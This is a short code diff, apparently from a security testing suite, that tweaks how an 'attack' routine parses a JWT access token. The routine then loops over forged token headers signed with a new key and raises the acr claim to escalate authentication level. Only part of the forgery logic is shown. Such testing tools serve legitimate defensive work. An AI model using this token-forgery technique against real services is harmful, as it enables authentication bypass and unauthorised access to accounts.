@@ -54,7 +54,7 @@ export const attack: Attack = {
   },
   async run(target: Target): Promise<Outcome> {
     const phone = await enrol(target)
-    const [header, claims] = phone.tokens.access.split('.').map(read)
+    const [header, claims] = phone.tokens.access.split('.', 2).map(read)
     const variants: Variant[] = []
     for (const forgery of forgeries(header as Part, await makeKey())) {
       const input = `${write(forgery.header)}.${write({ ...claims, acr: 'the-highest' })}`
